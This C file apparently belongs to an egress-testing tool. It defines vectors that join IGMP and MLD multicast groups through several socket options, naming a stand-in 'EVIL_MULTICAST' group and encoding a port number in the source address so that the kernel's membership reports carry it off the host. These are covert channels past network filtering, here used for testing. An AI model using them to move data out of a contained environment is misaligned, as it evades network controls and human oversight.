// SPDX-License-Identifier: MIT
/*
 * Members of a multicast group: a program that joins one has the kernel inform the routers of the link, with the group
 * and the sources that it wants to hear. Both are the process's choice. The source bears the port of the vector.
 */
#include "egress.h"

#include <net/if.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>

static struct in_addr source4(void)
{
	return (struct in_addr){htonl(REPORT_SOURCE4 | self.port)};
}

static struct sockaddr_in6 source6(void)
{
	struct sockaddr_in6 source = ipv6(REPORT_SOURCE6);

	source.sin6_addr.s6_addr[14] = self.port >> 8;
	source.sin6_addr.s6_addr[15] = self.port & 255;
	return source;
}

static int member(int family)
{
	return open_socket(family, SOCK_DGRAM, 0);
}

/* The report leaves a moment later, and not at all when the socket has left the group by then. */
static void stay(void)
{
	poll(NULL, 0, 300);
}

static void igmp_membership(int)
{
	struct ip_mreq_source join = {
		.imr_multiaddr = ipv4(EVIL_MULTICAST).sin_addr,
		.imr_interface = ipv4(OUR_IPV4).sin_addr,
		.imr_sourceaddr = source4(),
	};

	set_option(member(AF_INET), IPPROTO_IP, IP_ADD_SOURCE_MEMBERSHIP, &join, sizeof(join));
	stay();
}

static struct group_source_req request(void)
{
	return (struct group_source_req){.gsr_interface = if_nametoindex(OUR_INTERFACE)};
}

static void igmp_join(int)
{
	struct group_source_req join = request();
	struct sockaddr_in group = ipv4(EVIL_MULTICAST), source = {.sin_family = AF_INET, .sin_addr = source4()};

	memcpy(&join.gsr_group, &group, sizeof(group));
	memcpy(&join.gsr_source, &source, sizeof(source));
	set_option(member(AF_INET), IPPROTO_IP, MCAST_JOIN_SOURCE_GROUP, &join, sizeof(join));
	stay();
}

static void igmp_filter(int)
{
	struct ip_mreqn join = {.imr_multiaddr = ipv4(EVIL_MULTICAST).sin_addr, .imr_address = ipv4(OUR_IPV4).sin_addr};
	unsigned char bytes[IP_MSFILTER_SIZE(1)] = {};
	struct ip_msfilter *filter = (void *)bytes;
	struct in_addr source = source4();
	int fd = member(AF_INET);

	set_option(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof(join));
	filter->imsf_multiaddr = join.imr_multiaddr;
	filter->imsf_interface = join.imr_address;
	filter->imsf_fmode = MCAST_INCLUDE;
	filter->imsf_numsrc = 1;
	memcpy(filter->imsf_slist, &source, sizeof(source));
	set_option(fd, IPPROTO_IP, IP_MSFILTER, bytes, sizeof(bytes));
	stay();
}

static void mld_join(int)
{
	struct group_source_req join = request();
	struct sockaddr_in6 group = ipv6(EVIL_MULTICAST6), source = source6();

	memcpy(&join.gsr_group, &group, sizeof(group));
	memcpy(&join.gsr_source, &source, sizeof(source));
	set_option(member(AF_INET6), IPPROTO_IPV6, MCAST_JOIN_SOURCE_GROUP, &join, sizeof(join));
	stay();
}

static void mld_filter(int)
{
	struct group_req join = {.gr_interface = if_nametoindex(OUR_INTERFACE)};
	struct sockaddr_in6 group = ipv6(EVIL_MULTICAST6), source = source6();
	unsigned char bytes[GROUP_FILTER_SIZE(1)] __attribute__((aligned(8))) = {};
	struct group_filter *filter = (void *)bytes;
	int fd = member(AF_INET6);

	memcpy(&join.gr_group, &group, sizeof(group));
	set_option(fd, IPPROTO_IPV6, MCAST_JOIN_GROUP, &join, sizeof(join));
	filter->gf_interface = join.gr_interface;
	memcpy(&filter->gf_group, &group, sizeof(group));
	filter->gf_fmode = MCAST_INCLUDE;
	filter->gf_numsrc = 1;
	memcpy(filter->gf_slist, &source, sizeof(source));
	set_option(fd, IPPROTO_IPV6, MCAST_MSFILTER, bytes, sizeof(bytes));
	stay();
}

const struct vector group_vectors[] = {
	{"igmp_membership", igmp_membership}, {"igmp_join", igmp_join},
	{"igmp_filter", igmp_filter},	      {"mld_join", mld_join},
	{"mld_filter", mld_filter},	      {},
};
